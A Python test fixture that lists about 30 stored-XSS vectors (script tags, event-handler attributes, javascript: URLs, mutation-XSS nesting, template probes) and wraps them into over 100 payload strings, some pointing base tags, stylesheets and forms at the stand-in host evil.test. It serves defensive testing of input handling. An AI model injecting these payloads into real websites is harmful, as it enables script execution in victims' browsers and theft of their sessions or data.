"""Stored-XSS payloads: classic vectors in several wrappings (≥ 100 distinct strings).

Each would set ``window.__xss`` (or open a dialog) if it ever ran. None contains a control
character or a comma, so every field that takes text accepts them as they are.
"""

from __future__ import annotations

VECTORS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)>",
    '"><svg onload=window.__xss=1>',
    "'><img src=x onerror=window.__xss=1>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "javascript:window.__xss=1",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "<body onload=window.__xss=1>",
    '<a href="javascript:window.__xss=1">click</a>',
    "{{7*7}}{% raw %}${7*7}",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<svg><script>window.__xss=1</script></svg>",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus='",
    '<object data="javascript:window.__xss=1"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="http://evil.test/">',
    '<link rel=stylesheet href="http://evil.test/x.css">',
    '<form action="http://evil.test/"><button>go</button></form>',
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "<!--<script>window.__xss=1</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<style>*{background:url(javascript:window.__xss=1)}</style>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<svg/onload=window.__xss=1>",
)
WRAPPINGS: tuple[str, str, str, str] = ("", "q4 ", "双11 ", "x\"'")

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(prefix + vector for prefix in WRAPPINGS for vector in VECTORS)
)
assert len(PAYLOADS) >= 100


def short(payload: str, limit: int) -> str:
    """The payload cut to a field's limit, keeping it a payload (for tags: 64 characters)."""
    return payload[:limit]
